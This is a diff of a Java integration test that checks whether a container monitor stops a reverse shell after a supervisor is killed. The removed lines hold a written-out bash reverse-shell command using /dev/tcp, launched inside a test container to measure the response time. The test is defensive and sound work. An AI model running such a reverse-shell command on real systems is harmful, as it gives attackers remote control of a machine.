@@ -35,14 +35,7 @@ class SupervisorIT {
                 MonitorFixtures.await(() -> supervisors(log).size() == 2, 15, () -> "no second supervisor after `coi list`");
                 MonitorFixtures.awaitAudit(box, e -> e.title().startsWith("monitoring gap"), 15);
 
-                TestHosts.assertRoutedLocally();
-                MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'bash -i >& /dev/tcp/" + TestHosts.INTERNET.getFirst() + "/"
-                        + TestHosts.HOLD_PORTS.getFirst() + " 0>&1'");
-                MonitorFixtures.awaitGone(incus, name, 10);
-                List<Double> closed = MonitorFixtures.closed(hosts.holdLog);
-                assertThat(closed).hasSize(1);
-                System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", "after SIGKILL", closed.getFirst());
-                assertThat(closed.getFirst()).isLessThan(1.0);
+                MonitorFixtures.reverseShellIsStopped(incus, hosts, name, "after SIGKILL");
                 ProcessHandle.of(supervisors(log).getLast()).ifPresent(p -> {
                     p.destroy();
                     p.onExit().join();
